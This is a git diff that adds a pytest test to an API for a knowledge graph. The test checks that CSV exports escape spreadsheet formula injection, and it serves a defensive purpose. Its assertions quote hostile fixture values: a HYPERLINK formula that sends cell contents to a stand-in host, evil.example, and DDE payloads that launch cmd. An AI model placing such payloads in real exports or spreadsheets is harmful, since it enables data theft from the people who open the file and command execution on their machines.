@@ -4,11 +4,17 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from collections.abc import Callable
 from typing import Any
 from urllib.parse import quote
 
 import pytest
+from api.tabular import inert
 from fastapi.testclient import TestClient
+
+from tests.conftest import FIXTURES
+from tests.fixtures.memory_store import MemoryStore
 
 BASE = "https://w3id.org/gq-kg/"
 HUISHUI = BASE + "id/division/522731"
@@ -337,3 +343,39 @@ def test_statistics_of_a_year_are_those_whose_period_covers_it(api: TestClient) 
         assert body["statistics"] == want, year
         seen += len(want)
     assert seen > 0
+
+
+def test_csv_cells_never_start_a_formula(web_app: Callable[..., TestClient]) -> None:
+    """tests/fixtures/hostile.trig holds labels and a relation text that a spreadsheet would
+    run as formulas (=HYPERLINK, @SUM…|cmd, +1+cmd): in CSV each starts with an apostrophe;
+    JSON and numbers are untouched."""
+    hostile = FIXTURES / "hostile.trig"
+    client = web_app(MemoryStore(hostile), dataset_file=hostile)
+    formulas = ("=", "+", "-", "@", "\t", "\r")
+    seen: set[str] = set()
+    for url, params in (
+        ("/api/entities", {"format": "csv", "limit": "500"}),
+        ("/api/search", {"q": "三都", "format": "csv"}),
+        ("/api/search", {"q": "SUM", "format": "csv"}),
+        ("/api/pairings", {"format": "csv"}),
+    ):
+        response = client.get(url, params=params)
+        assert response.status_code == 200, (url, response.text)
+        for row in csv.reader(io.StringIO(response.text)):
+            for cell in row:
+                assert not cell.startswith(formulas) or re.fullmatch(r"[+-]?[0-9.]+", cell), cell
+                seen.add(cell)
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"三都")' in seen
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
+    assert "'+1+cmd|' /C calc'!A0" in seen
+    # JSON is data, not a spreadsheet: the value as the source has it.
+    (pairing,) = client.get("/api/pairings").json()["pairings"]
+    assert pairing["relation_text"] == "+1+cmd|' /C calc'!A0"
+    assert [inert(v) for v in ("-3.5", "+2", "1e5", "-", "@", "=1")] == [
+        "-3.5",
+        "+2",
+        "1e5",
+        "'-",
+        "'@",
+        "'=1",
+    ]
